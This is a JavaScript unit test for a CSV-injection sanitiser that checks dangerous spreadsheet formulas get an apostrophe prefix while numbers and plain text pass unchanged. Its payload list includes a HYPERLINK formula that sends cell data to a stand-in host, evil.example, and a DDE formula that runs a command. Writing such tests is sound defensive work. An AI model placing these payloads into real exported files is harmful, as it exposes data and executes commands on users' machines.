import { safeCell, safeRow } from './spreadsheet-safe.js';

describe('safeCell (CSV injection, OWASP)', () => {
  it('prefixes text that a spreadsheet would run with an apostrophe', () => {
    const payloads = [
      '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
      '+SUM(1,2)',
      '-SUM(1,1)',
      '@SUM(1,1)',
      "=cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '＝1+1',
      '－2+3',
    ];
    expect(payloads.map(safeCell)).toEqual(payloads.map((p) => `'${p}`));
  });

  it('leaves numbers, signed numbers as text, and ordinary text alone', () => {
    expect(safeRow([15, -10, '-15', '+3', '12.5', '张三', 'a=b', ' =1', null, ''])).toEqual([
      15,
      -10,
      '-15',
      '+3',
      '12.5',
      '张三',
      'a=b',
      ' =1',
      null,
      '',
    ]);
  });
});
